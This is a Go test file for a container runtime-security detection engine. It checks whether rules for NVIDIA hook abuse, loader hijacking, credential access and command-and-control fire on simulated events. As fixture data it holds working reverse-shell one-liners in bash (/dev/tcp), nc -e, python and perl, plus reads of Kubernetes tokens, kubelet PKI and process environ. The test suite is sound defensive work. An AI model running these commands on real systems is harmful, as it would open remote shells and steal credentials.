		{"preload on a non-hook", "NVT-001", func() []*event.Event {
			return evs(execEv(proc(80, "/usr/bin/python3").env("LD_PRELOAD", "/tmp/x.so"), infer("x")))
		}, false, 0},

		// NVT-002
		{"A6 hook spawns /bin/sh", "NVT-002", func() []*event.Event {
			return evs(execEv(proc(501, "/usr/bin/dash", "/bin/sh", "-c", "id; cat /etc/hostname").ns(hookNS).anc(an(500, "/tmp/h/bin/nvidia-ctk"), runcA), infer("a6")))
		}, true, event.SevCritical},
		{"A6 hook loads /proc/self/cwd/evil.so", "NVT-002", func() []*event.Event {
			return evs(openEv(nvctk(), infer("a6"), "/tmp/h/rootfs-nvscape/evil.so", "/proc/self/cwd/evil.so", rd, 3))
		}, true, 0},
		{"toolkit ldconfig child", "NVT-002", func() []*event.Event {
			return evs(execEv(proc(601, "/sbin/ldconfig.real", "/sbin/ldconfig.real", "-r", "/rootfs").ns(hostNS).
				anc(an(600, "/usr/bin/nvidia-container-cli"), an(599, "/usr/bin/nvidia-container-runtime-hook"), an(598, "/usr/bin/runc")), nil))
		}, false, 0},
		{"toolkit memfd ldconfig", "NVT-002", func() []*event.Event {
			return evs(execEv(proc(601, "memfd:runc_cloned:/sbin/ldconfig", "ldconfig").memfd().ns(hostNS).
				anc(an(600, "/usr/bin/nvidia-cdi-hook"), an(598, "/usr/bin/runc")), nil))
		}, false, 0},
		{"A7 stand-in CLI run by hand is no hook", "NVT-002", func() []*event.Event {
			return evs(execEv(proc(701, "/usr/bin/mount", "mount", "--rbind", "/", "/r/opt/nvidia/lib64/libnvidia-ml.so.1").
				anc(an(700, "/tmp/h/bin/nvidia-container-cli"), an(699, "/usr/bin/unshare"), an(698, "/usr/bin/nsenter"), an(697, "/usr/bin/bash")), infer("a7")))
		}, false, 0},
		{"hook loads a host library", "NVT-002", func() []*event.Event {
			return evs(openEv(nvctk(), infer("a6"), "/usr/lib/x86_64-linux-gnu/libc.so.6", "", rd, 3))
		}, false, 0},

		// NVT-003
		{"A6 hook opens /proc/1/ns/net", "NVT-003", func() []*event.Event {
			return evs(openEv(nvctk(), infer("a6"), "/proc/1/ns/net", "", rd, -13))
		}, true, event.SevCritical},
		{"A6 hook dials out", "NVT-003", func() []*event.Event {
			return evs(connEv(nvctk(), infer("a6"), "10.200.2.2", 4444, event.ClassExternal))
		}, true, 0},
		{"hook setns into host net", "NVT-003", func() []*event.Event {
			return evs(sysEv(nvctk(), infer("a6"), event.Syscall{Name: "setns", NSInode: hostNS.Net}))
		}, true, 0},
		{"nvidia-container-cli enters the container mnt ns", "NVT-003", func() []*event.Event {
			b := proc(600, "/usr/bin/nvidia-container-cli").ns(hostNS).anc(an(599, "/usr/bin/nvidia-container-runtime-hook"), an(598, "/usr/bin/runc"))
			return evs(openEv(b, nil, "mnt:[4026532101]", "/proc/4242/ns/mnt", rd, 3))
		}, false, 0},
		{"hook talks to persistenced", "NVT-003", func() []*event.Event {
			return evs(unixEv(nvctk(), nil, "/run/nvidia-persistenced/socket"))
		}, false, 0},
		{"ordinary process dials out", "NVT-003", func() []*event.Event {
			return evs(connEv(proc(81, "/usr/bin/curl"), infer("x"), "10.200.2.2", 4444, event.ClassExternal))
		}, false, 0},

		// NVT-004
		{"A7 library used as a directory", "NVT-004", func() []*event.Event {
			return evs(openEv(proc(702, "/bin/cat"), infer("a7"), "/opt/nvidia/lib64/libnvidia-ml.so.1/etc/hostname", "/host/etc/hostname", rd, 3))
		}, true, event.SevCritical},
		{"A7 docker.sock under a library name", "NVT-004", func() []*event.Event {
			return evs(unixEv(proc(702, "/usr/bin/curl"), infer("a7"), "/usr/lib/x86_64-linux-gnu/libnvidia-cfg.so.1/docker.sock"))
		}, true, 0},
		{"A7 mount --rbind / onto a library", "NVT-004", func() []*event.Event {
			return evs(execEv(proc(701, "/usr/bin/mount", "mount", "--rbind", "/", "/tmp/h/rootfs0132/opt/nvidia/lib64/libnvidia-ml.so.1"), infer("a7")))
		}, true, 0},
		{"bind mount of /run onto a library (syscall)", "NVT-004", func() []*event.Event {
			return evs(sysEv(proc(701, "/usr/bin/nvidia-container-cli").ns(hostNS), nil, event.Syscall{Name: "mount", Path: "/run", Path2: "/r/usr/lib64/libnvidia-cfg.so.1", Flags: msBind}))
		}, true, 0},
		{"library opened as a file", "NVT-004", func() []*event.Event {
			return evs(openEv(proc(702, "/usr/bin/python3"), infer("x"), "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.1", "", rd, 3))
		}, false, 0},
		{"toolkit binds a library onto a library", "NVT-004", func() []*event.Event {
			return evs(sysEv(proc(701, "/usr/bin/nvidia-container-cli").ns(hostNS), nil, event.Syscall{Name: "mount", Path: "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.550.1", Path2: "/r/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.550.1", Flags: msBind}))
		}, false, 0},

		// EXE-001
		{"A6 hook with LD_PRELOAD is critical", "EXE-001", func() []*event.Event {
			return evs(execEv(nvctk().env("LD_PRELOAD", "/proc/self/cwd/evil.so"), infer("a6")))
		}, true, event.SevCritical},
		{"container LD_PRELOAD from tmp", "EXE-001", func() []*event.Event {
			return evs(execEv(proc(90, "/usr/bin/python3").env("LD_PRELOAD", "/tmp/x.so"), infer("x")))
		}, true, event.SevHigh},
		{"LD_LIBRARY_PATH in shm", "EXE-001", func() []*event.Event {
			return evs(execEv(proc(90, "/usr/bin/python3").env("LD_LIBRARY_PATH", "/usr/lib:/dev/shm/l"), infer("x")))
		}, true, 0},
		{"GLIBC_TUNABLES", "EXE-001", func() []*event.Event {
			return evs(execEv(proc(90, "/usr/bin/su").env("GLIBC_TUNABLES", "glibc.tune.x=y"), infer("x")))
		}, true, 0},
		{"ld.so.preload write", "EXE-001", func() []*event.Event {
			return evs(openEv(proc(90, "/bin/sh"), infer("x"), "/etc/ld.so.preload", "", wr, 3))
		}, true, 0},
		{"jemalloc preload", "EXE-001", func() []*event.Event {
			return evs(execEv(proc(90, "/usr/bin/python3").env("LD_PRELOAD", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"), infer("x")))
		}, false, 0},
		{"ldconfig rewrites the cache", "EXE-001", func() []*event.Event {
			return evs(openEv(proc(90, "/sbin/ldconfig"), infer("x"), "/etc/ld.so.cache", "", wr, 3))
		}, false, 0},
		{"rustup library path in home", "EXE-001", func() []*event.Event {
			return evs(execEv(proc(90, "/root/.cargo/bin/rustc").env("LD_LIBRARY_PATH", "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/lib"), infer("b2")))
		}, false, 0},
		{"CUDA library path", "EXE-001", func() []*event.Event {
			return evs(execEv(proc(90, "/usr/bin/python3").env("LD_LIBRARY_PATH", "/usr/local/nvidia/lib64:/usr/local/cuda/lib64"), infer("x")))
		}, false, 0},

		// EXE-002
		{"A11 exec from /tmp", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(100, "/tmp/xmrig", "/tmp/xmrig", "10.200.2.2"), ctr("simctr-nogpu-a11")))
		}, true, event.SevHigh},
		{"memfd exec", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(100, "memfd:x").memfd(), infer("x")))
		}, true, 0},
		{"drift after startup", "EXE-002", func() []*event.Event {
			c := infer("x")
			a := execEv(proc(100, "/bin/sh"), c)
			w := openEv(proc(101, "/usr/bin/curl"), c, "/usr/local/bin/tool", "", wr, 3)
			w.Time = t0.Add(40 * time.Second)
			x := execEv(proc(102, "/usr/local/bin/tool"), c)
			x.Time = t0.Add(41 * time.Second)
			return evs(a, w, x)
		}, true, 0},
		{"GPU container that never owns a GPU leaves the grace", "EXE-002", func() []*event.Event {
			c := infer("x")
			c.GPUs = []string{"GPU-0"}
			a := execEv(proc(100, "/bin/sh"), c)
			w := openEv(proc(101, "/usr/bin/curl"), c, "/usr/local/bin/tool", "", wr, 3)
			w.Time = t0.Add(40 * time.Second)
			x := execEv(proc(102, "/usr/local/bin/tool"), c)
			x.Time = t0.Add(100 * time.Second)
			return evs(a, w, x)
		}, true, 0},
		{"GPU container before its first owner", "EXE-002", func() []*event.Event {
			c := infer("x")
			c.GPUs = []string{"GPU-0"}
			a := execEv(proc(100, "/bin/sh"), c)
			w := openEv(proc(101, "/usr/bin/curl"), c, "/usr/local/bin/tool", "", wr, 3)
			w.Time = t0.Add(40 * time.Second)
			x := execEv(proc(102, "/usr/local/bin/tool"), c)
			x.Time = t0.Add(50 * time.Second)
			return evs(a, w, x)
		}, false, 0},
		{"variant V31: shebang script dropped in /dev/shm (image is the interpreter)", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(103, "/usr/bin/dash", "/bin/sh", "/dev/shm/.v31.sh"), infer("v31")))
		}, true, event.SevHigh},
		{"variant V30: the dynamic loader runs a binary dropped in /dev/shm", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(104, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "/dev/shm/.v30"), infer("v30")))
		}, true, event.SevHigh},
		{"the dynamic loader runs a binary from /tmp, relative to the cwd", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(104, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "ld-linux-x86-64.so.2", "--argv0", "kworker", "x").cwd("/tmp/.cache"), infer("x")))
		}, true, 0},
		{"script written in the container after startup, run by bash", "EXE-002", func() []*event.Event {
			c := infer("x")
			a := execEv(proc(100, "/bin/sh"), c)
			w := openEv(proc(101, "/usr/bin/curl"), c, "/var/tmp/s.sh", "", wr, 3)
			w.Time = t0.Add(40 * time.Second)
			x := execEv(proc(102, "/usr/bin/bash", "bash", "/var/tmp/s.sh"), c)
			x.Time = t0.Add(41 * time.Second)
			return evs(a, w, x)
		}, true, 0},
		{"ldd lists a binary in /dev/shm", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(105, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2", "--list", "/dev/shm/x"), infer("x")))
		}, false, 0},
		{"sh -c naming /dev/shm in the command string", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(106, "/usr/bin/dash", "sh", "-c", "/dev/shm/x"), infer("x")))
		}, false, 0},
		{"python runs a harness script from /tmp written before the container", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(107, "/usr/bin/python3.11", "python3", "/tmp/h/fake_infer.py", "--port", "8000"), infer("x")))
		}, false, 0},
		{"runc memfd", "EXE-002", func() []*event.Event {
			return evs(execEv(proc(100, "memfd:runc_cloned:/proc/self/exe").memfd(), infer("x")))
		}, false, 0},
		{"B2 pip writes, python runs", "EXE-002", func() []*event.Event {
			c := infer("b2")
			return evs(execEv(proc(110, "/bin/sh"), c),
				openEv(proc(111, "/usr/bin/python3.11"), c, "/tmp/h/site/ebpfh_demo/__init__.py", "", wr, 3),
				execEv(proc(112, "/usr/bin/python3.11", "python3", "-c", "import ebpfh_demo"), c))
		}, false, 0},
		{"console script written in startup grace", "EXE-002", func() []*event.Event {
			c := infer("x")
			return evs(execEv(proc(110, "/bin/sh"), c),
				openEv(proc(111, "/usr/bin/python3"), c, "/usr/local/bin/tool", "", wr, 3),
				execEv(proc(112, "/usr/local/bin/tool"), c))
		}, false, 0},

		// EXE-003
		{"kubectl exec -it shell", "EXE-003", func() []*event.Event {
			return evs(execEv(proc(120, "/bin/bash").tty().anc(an(119, "/usr/bin/runc")), infer("x")))
		}, true, event.SevLow},
		{"B3 probe shell without tty", "EXE-003", func() []*event.Event {
			return evs(execEv(proc(120, "/bin/sh", "sh", "-c", "curl -fsS -m 2 http://127.0.0.1:8000/health").anc(an(119, "/usr/bin/nsenter"), runcA), infer("b1")))
		}, false, 0},
		{"A10 bash -i without tty", "EXE-003", func() []*event.Event {
			return evs(execEv(proc(120, "/bin/bash", "bash", "-i").anc(an(119, "/usr/bin/timeout"), an(118, "/bin/bash")), infer("a10")))
		}, false, 0},
		{"tty shell in a non-inference container", "EXE-003", func() []*event.Event {
			return evs(execEv(proc(120, "/bin/bash").tty().anc(an(119, "/usr/bin/runc")), side("x")))
		}, false, 0},

		// EXE-004
		{"pip install in a running inference container", "EXE-004", func() []*event.Event {
			c := infer("x")
			a := execEv(proc(130, "/usr/bin/python3", "python3", "server.py"), c)
			x := execEv(proc(131, "/usr/local/bin/pip", "pip", "install", "x").anc(an(130, "/usr/bin/python3")), c)
			x.Time = t0.Add(2 * time.Minute)
			return evs(a, x)
		}, true, event.SevMedium},
		{"curl -o after startup", "EXE-004", func() []*event.Event {
			c := infer("x")
			a := execEv(proc(130, "/usr/bin/python3"), c)
			x := execEv(proc(131, "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://10.200.2.2/x").anc(an(130, "/usr/bin/python3")), c)
			x.Time = t0.Add(2 * time.Minute)
			return evs(a, x)
		}, true, 0},
		{"B2 pip at start from the entrypoint", "EXE-004", func() []*event.Event {
			c := infer("b2")
			return evs(execEv(proc(130, "/bin/sh"), c),
				execEv(proc(131, "/usr/bin/python3", "python3", "-m", "pip", "install", "-q", "ebpfh-demo").anc(an(130, "/bin/sh")), c))
		}, false, 0},
		{"B1 downloader in a build container", "EXE-004", func() []*event.Event {
			c := ctr("simctr-build-b1")
			x := execEv(proc(131, "/usr/bin/curl", "curl", "-s", "-o", "/tmp/h/models/m.safetensors", "http://10.200.1.1:8080/m"), c)
			x.Time = t0.Add(5 * time.Minute)
			return evs(x)
		}, false, 0},
		{"curl -o /dev/null", "EXE-004", func() []*event.Event {
			c := infer("x")
			a := execEv(proc(130, "/usr/bin/python3"), c)
			x := execEv(proc(131, "/usr/bin/curl", "curl", "-o", "/dev/null", "http://x").anc(an(130, "/usr/bin/python3")), c)
			x.Time = t0.Add(2 * time.Minute)
			return evs(a, x)
		}, false, 0},

		// CRED-001
		{"A12 service-account token read", "CRED-001", func() []*event.Event {
			c := side("a12")
			return evs(execEv(proc(140, "/bin/sh").ns(hostPIDNS), c),
				openEv(proc(141, "/bin/cat").ns(hostPIDNS), c, "/run/secrets/kubernetes.io/serviceaccount/token", "/var/run/secrets/kubernetes.io/serviceaccount/token", rd, 3))
		}, true, event.SevMedium},
		{"API server contact", "CRED-001", func() []*event.Event {
			return evs(connEv(proc(141, "/usr/bin/curl").env("KUBERNETES_SERVICE_HOST", "10.96.0.1"), infer("x"), "10.96.0.1", 443, event.ClassPod))
		}, true, 0},
		{"server reads its own token", "CRED-001", func() []*event.Event {
			c := infer("x")
			return evs(execEv(proc(140, "/usr/bin/python3"), c),
				openEv(proc(140, "/usr/bin/python3"), c, "/run/secrets/kubernetes.io/serviceaccount/token", "", rd, 3))
		}, false, 0},

		// CRED-002
		{"A12 IMDS contact", "CRED-002", func() []*event.Event {
			return evs(connEv(proc(142, "/usr/bin/curl").ns(hostPIDNS), side("a12"), "169.254.169.254", 80, event.ClassMetadata))
		}, true, event.SevHigh},
		{"host IMDS contact", "CRED-002", func() []*event.Event {
			return evs(connEv(proc(142, "/usr/bin/cloud-init").ns(hostNS), nil, "169.254.169.254", 80, event.ClassMetadata))
		}, false, 0},
		{"SDK region probe at startup", "CRED-002", func() []*event.Event {
			c := infer("x")
			return evs(execEv(proc(143, "/usr/bin/python3"), c), connEv(proc(143, "/usr/bin/python3"), c, "169.254.169.254", 80, event.ClassMetadata))
		}, false, 0},

		// CRED-003
		{"A12 environ of the GPU owner", "CRED-003", func() []*event.Event {
			return evs(gpuEv(4242, infer("a12")),
				openEv(proc(150, "/usr/bin/python3").ns(hostPIDNS), side("a12"), "/proc/4242/environ", "", rd, 3))
		}, true, event.SevHigh},
		{"A12 HF token read", "CRED-003", func() []*event.Event {
			c := side("a12")
			return evs(execEv(proc(149, "/bin/sh"), c), openEv(proc(151, "/bin/cat"), c, "/tmp/h/home/.cache/huggingface/token", "", rd, 3))
		}, true, 0},
		{"A4 kubelet PKI through /proc/1/root", "CRED-003", func() []*event.Event {
			c := side("a4")
			return evs(execEv(proc(149, "/bin/sh"), c), openEv(proc(151, "/bin/ls"), c, "/etc/kubernetes/pki", "/proc/1/root/etc/kubernetes/pki/", rd|event.ODirectry, 3))
		}, true, 0},
		{"owner reads its own token", "CRED-003", func() []*event.Event {
			c := infer("x")
			return evs(gpuEv(152, c), openEv(proc(152, "/usr/bin/python3"), c, "/root/.cache/huggingface/token", "", rd, 3))
		}, false, 0},
		{"/proc/self/environ", "CRED-003", func() []*event.Event {
			return evs(openEv(proc(153, "/usr/bin/python3"), infer("x"), "/proc/153/environ", "/proc/self/environ", rd, 3))
		}, false, 0},
		{"environ in own pid namespace", "CRED-003", func() []*event.Event {
			return evs(openEv(proc(153, "/bin/ps"), infer("x"), "/proc/5/environ", "", rd, 3))
		}, false, 0},

		// C2-001
		{"A10 /dev/tcp one-liner in an inference container", "C2-001", func() []*event.Event {
			return evs(execEv(proc(160, "/usr/bin/dash", "sh", "-c", "bash -c 'timeout 8 bash -i >& /dev/tcp/10.200.2.2/4444 0>&1' &"), infer("a10")))
		}, true, event.SevCritical},
		{"A6 socket dup'd onto stdin under a hook", "C2-001", func() []*event.Event {
			return evs(sysEv(nvctk(), infer("a6"), event.Syscall{Name: "dup", Fd: 3, Fd2: 0, FdIsSocket: true}))
		}, true, event.SevCritical},
		{"nc -e on the host", "C2-001", func() []*event.Event {
			return evs(execEv(proc(161, "/usr/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/sh").ns(hostNS), nil))
		}, true, event.SevHigh},
		{"connect on fd 1", "C2-001", func() []*event.Event {
			e := connEv(proc(162, "/bin/bash"), side("x"), "10.200.2.2", 4444, event.ClassExternal)
			e.Net.Fd = 1
			return evs(e)
		}, true, event.SevHigh},
		{"A6 shell right after the hook dialled out", "C2-001", func() []*event.Event {
			return evs(connEv(nvctk(), infer("a6"), "10.200.2.2", 4444, event.ClassExternal),
				execEv(proc(501, "/usr/bin/dash", "/bin/sh", "-c", "id; cat /etc/hostname").ns(hookNS).anc(an(500, "/tmp/h/bin/nvidia-ctk"), runcA), infer("a6")))
		}, true, event.SevCritical},
		{"shell right after an allowed connect", "C2-001", func() []*event.Event {
			c := infer("x")
			return evs(connEv(proc(170, "/usr/bin/python3"), c, "10.200.1.1", 6379, event.ClassNode),
				execEv(proc(171, "/bin/sh", "sh", "-c", "nvidia-smi -L").anc(an(170, "/usr/bin/python3")), c))
		}, false, 0},
		{"A6 shell seen before the connect (events out of order)", "C2-001", func() []*event.Event {
			return evs(execEv(proc(501, "/usr/bin/dash", "/bin/sh", "-c", "id").ns(hookNS).anc(an(500, "/tmp/h/bin/nvidia-ctk"), runcA), infer("a6")),
				connEv(nvctk(), infer("a6"), "10.200.2.2", 4444, event.ClassExternal))
		}, true, event.SevCritical},
		{"issue 14: reverse shell behind a 1,100-byte pad, argv cut by the kernel", "C2-001", func() []*event.Event {
			x := execEv(proc(164, "/usr/bin/bash", "bash", "-c", "# "+strings.Repeat("A", 1000)), infer("x"))
			x.Process.Truncated = event.TruncArgs
			return evs(x)
		}, true, event.SevLow},
		{"issue 14: the padded shell then dials out: its cut line is corroborated", "C2-001", func() []*event.Event {
			p := proc(166, "/usr/bin/bash", "bash", "-c", "# "+strings.Repeat("A", 1000))
			p.p.Truncated = event.TruncArgs
			return evs(execEv(p, infer("x")), connEv(p, infer("x"), "10.200.2.2", 4444, event.ClassExternal))
		}, true, event.SevMedium},
		{"benign: a long python -c entrypoint that talks only to loopback", "C2-001", func() []*event.Event {
			p := proc(167, "/usr/bin/python3", "python3", "-c", "import os; "+strings.Repeat("x=1; ", 300))
			p.p.Truncated = event.TruncArgs
			return evs(connEv(p, infer("x"), "127.0.0.1", 8000, event.ClassLoopback))
		}, false, 0},
		{"a long command line of something that is no shell", "C2-001", func() []*event.Event {
			x := execEv(proc(165, "/usr/bin/java", "java", "-cp", strings.Repeat("/opt/lib/x.jar:", 80)), infer("x"))
			x.Process.Truncated = event.TruncArgs
			return evs(x)
		}, false, 0},
		{"A5 script with socket.socket and a /bin path", "C2-001", func() []*event.Event {
			return evs(execEv(proc(163, "/bin/sh", "sh", "-c", "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX)\"; $0/bin/crictl ps; mkdir -p x 2>&1"), infer("a5")))
		}, false, 0},
		{"python reverse shell", "C2-001", func() []*event.Event {
			return evs(execEv(proc(163, "/usr/bin/python3", "python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"), side("x")))
		}, true, event.SevHigh},
		{"host shell after a connect", "C2-001", func() []*event.Event {
			return evs(connEv(proc(170, "/usr/bin/python3").ns(hostNS), nil, "10.0.0.9", 443, event.ClassExternal),
				execEv(proc(171, "/bin/bash", "bash", "-c", "make").ns(hostNS).anc(an(170, "/usr/bin/python3")), nil))
		}, false, 0},
		{"shell after a DNS lookup", "C2-001", func() []*event.Event {
			k := connEv(proc(170, "/usr/bin/python3"), infer("x"), "10.255.255.53", 53, event.ClassExternal)
			k.Net.Protocol = "udp"
			return evs(k, execEv(proc(171, "/bin/sh", "sh", "-c", "true").anc(an(170, "/usr/bin/python3")), infer("x")))
		}, false, 0},
		{"shell forked by a shim before it exec'd the connecting image", "C2-001", func() []*event.Event {
			c := infer("a9")
			py := proc(170, "/usr/bin/python3.11", "python3", "-")
			py.p.ExecTime = t0.Add(time.Second)
			sh := execEv(proc(171, "/usr/bin/bash", "bash", "-c", "pyenv version-name").anc(an(170, "/root/.pyenv/shims/python3")), c)
			sh.Time = t0.Add(500 * time.Millisecond)
			k := connEv(py, c, "10.200.2.2", 443, event.ClassExternal)
			k.Time = t0.Add(2 * time.Second)
			return evs(sh, k)
		}, false, 0},
		{"shell of another container", "C2-001", func() []*event.Event {
			return evs(execEv(proc(171, "/bin/sh", "sh", "-c", "true").anc(an(170, "/usr/bin/python3")), infer("y")),
				connEv(proc(170, "/usr/bin/python3"), infer("x"), "10.200.2.2", 443, event.ClassExternal))
		}, false, 0},
		{"shell long after a connect", "C2-001", func() []*event.Event {
			c := infer("x")
			k := connEv(proc(170, "/usr/bin/python3"), c, "10.200.1.1", 8080, event.ClassNode)
			x := execEv(proc(171, "/bin/sh", "sh", "-c", "nvidia-smi -L").anc(an(170, "/usr/bin/python3")), c)
			x.Time = t0.Add(time.Minute)
			return evs(k, x)
		}, false, 0},
		{"shell after a loopback connect", "C2-001", func() []*event.Event {
			c := infer("x")
			return evs(connEv(proc(170, "/usr/bin/python3"), c, "127.0.0.1", 8080, event.ClassLoopback),
				execEv(proc(171, "/bin/sh", "sh", "-c", "true").anc(an(170, "/usr/bin/python3")), c))
		}, false, 0},
		{"B3 probe command", "C2-001", func() []*event.Event {
			return evs(execEv(proc(163, "/bin/sh", "sh", "-c", "curl -fsS -m 2 http://127.0.0.1:8000/health > /dev/null"), infer("b1")))
		}, false, 0},
		{"variant V11: script connects fd 3 and dups it onto stdin", "C2-001", func() []*event.Event {
			c := infer("v11")
			py := proc(166, "/usr/bin/python3.11", "python3", "/tmp/h/v11_rs.py")
			return evs(connEv(py, c, "10.200.2.2", 4444, event.ClassExternal),
				sysEv(py, c, event.Syscall{Name: "dup", Fd: 3, Fd2: 0, FdIsSocket: true}))
		}, true, event.SevCritical},
		{"nc -e child dups the socket its fork parent connected", "C2-001", func() []*event.Event {
			c := side("x")
			return evs(connEv(proc(167, "/usr/bin/nc.openbsd", "nc", "10.200.2.2", "4444"), c, "10.200.2.2", 4444, event.ClassExternal),
				sysEv(proc(168, "/usr/bin/nc.openbsd").anc(an(167, "/usr/bin/nc.openbsd")), c, event.Syscall{Name: "dup", Fd: 3, Fd2: 1, FdIsSocket: true}))
		}, true, event.SevHigh},
		{"variant V19: scp dups its ssh socketpair onto stdin (no connect): low", "C2-001", func() []*event.Event {
			return evs(sysEv(proc(169, "/usr/bin/scp"), infer("v19"), event.Syscall{Name: "dup", Fd: 3, Fd2: 0, FdIsSocket: true}))
		}, true, event.SevLow},
		{"dup of another fd than the connected one: low", "C2-001", func() []*event.Event {
			c := infer("x")
			p := proc(169, "/usr/bin/python3")
			return evs(connEv(p, c, "10.200.2.2", 443, event.ClassExternal),
				sysEv(p, c, event.Syscall{Name: "dup", Fd: 5, Fd2: 0, FdIsSocket: true}))
		}, true, event.SevLow},
		{"variant V10: perl IO::Socket::UNIX client of a runtime socket", "C2-001", func() []*event.Event {
			return evs(execEv(proc(170, "/usr/bin/perl", "perl", "-MIO::Socket::UNIX", "-e",
				`my $s = IO::Socket::UNIX->new(Peer => "/run/simrt/v10/containerd.sock") or die "connect: $!";`), infer("v10")))
		}, false, 0},
		{"perl IO::Socket::INET reverse shell", "C2-001", func() []*event.Event {
			return evs(execEv(proc(170, "/usr/bin/perl", "perl", "-MIO::Socket::INET", "-e",
				`$s=IO::Socket::INET->new(PeerAddr=>"10.0.0.1:4444");open(STDIN,">&",$s);exec("/bin/sh -i")`), side("x")))
		}, true, event.SevHigh},
		{"variant VB6: python socketpair worker with subprocess", "C2-001", func() []*event.Event {
			return evs(execEv(proc(171, "/usr/bin/python3.11", "python3", "-c",
				"import socket, subprocess\na, b = socket.socketpair()\nsubprocess.call([\"/bin/cat\"], stdin=b, stdout=b)"), infer("vb6")))
		}, false, 0},
		{"socketpair and a real socket.socket with dup2", "C2-001", func() []*event.Event {
			return evs(execEv(proc(171, "/usr/bin/python3.11", "python3", "-c",
				"import socket,os;p=socket.socketpair();s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0)"), side("x")))
		}, true, event.SevHigh},
		{"pipe dup'd onto stdout", "C2-001", func() []*event.Event {
			return evs(sysEv(proc(164, "/bin/sh"), infer("x"), event.Syscall{Name: "dup", Fd: 4, Fd2: 1}))
		}, false, 0},
		{"ordinary connect", "C2-001", func() []*event.Event {
			return evs(connEv(proc(165, "/usr/bin/curl"), infer("x"), "10.200.2.2", 80, event.ClassExternal))
		}, false, 0},
	}
	cases = append(cases, aiRuleCases()...)   // GPU-* and EXF-* (rule_ai_cases_test.go)
	cases = append(cases, selfRuleCases()...) // SELF-* (rule_self_test.go)
	covered := runRuleCases(t, cases)
	for _, m := range newTestEngine(t, nil).Catalog() {
		if !covered[m.ID] {
			t.Errorf("no firing case for %s", m.ID)
		}
	}
}

// runRuleCases runs each case on a fresh engine and returns the rules that
// fired as expected.
func runRuleCases(t *testing.T, cases []ruleCase) map[string]bool {
	t.Helper()
	covered := map[string]bool{}
	for _, tc := range cases {
		t.Run(tc.rule+"/"+tc.name, func(t *testing.T) {
			e := newTestEngine(t, nil)
			out := run(e, tc.evs()...)
			got, fired := rulesFired(out)[tc.rule]
			if fired != tc.fire {
				t.Fatalf("%s fired = %v; want %v\nfindings:\n%s", tc.rule, fired, tc.fire, firedList(out))
			}
			if !fired {
				return
			}
			covered[tc.rule] = true
			if tc.sev != 0 && got.Severity != tc.sev {
				t.Errorf("severity = %s; want %s (%s)", got.Severity, tc.sev, got.Explanation)
			}
			for _, f := range out {
				if f.Finding.Rule != tc.rule {
					continue
				}
				if f.Finding.Explanation == "" || len(f.Finding.Evidence) == 0 || f.Process == nil {
					t.Errorf("finding lacks explanation, evidence or process: %+v", f.Finding)
				}
			}
		})
	}
	return covered
}
